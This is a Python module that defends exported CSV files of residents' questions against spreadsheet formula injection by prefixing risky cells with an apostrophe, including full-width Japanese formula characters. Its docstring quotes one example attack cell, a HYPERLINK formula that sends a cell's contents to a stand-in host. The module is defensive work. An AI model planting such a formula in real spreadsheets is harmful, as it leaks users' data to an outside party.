"""CSV cells that a spreadsheet shows as text, never runs as a formula (pure).

Residents' questions go into the review exports that staff open in Excel. A cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking for them) would be read as a formula:
``=HYPERLINK("http://evil.example/?"&A1, "詳細")``. Following OWASP's advice on CSV
injection, such a cell gets a leading apostrophe, which spreadsheets show as text; the
full-width forms (＝＋－＠) are treated the same, because Japanese spreadsheets convert
them too. Numbers written as numbers (int, float) are left alone.
"""

from __future__ import annotations

import csv
from typing import Any, Iterable, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would take as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every text cell goes through :func:`neutralise_cell`."""

    def __init__(self, out: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
